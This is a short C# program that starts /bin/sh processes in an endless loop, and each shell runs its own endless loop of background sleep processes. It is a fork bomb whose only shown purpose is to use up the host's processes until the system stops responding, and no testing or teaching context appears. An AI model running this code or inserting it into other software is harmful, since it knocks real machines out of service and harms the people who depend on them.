using System.Diagnostics;

// Starts processes for as long as it is let.
while (true)
{
    Process.Start("/bin/sh", ["-c", "while :; do sleep 60 & sleep 60; done"]);
}
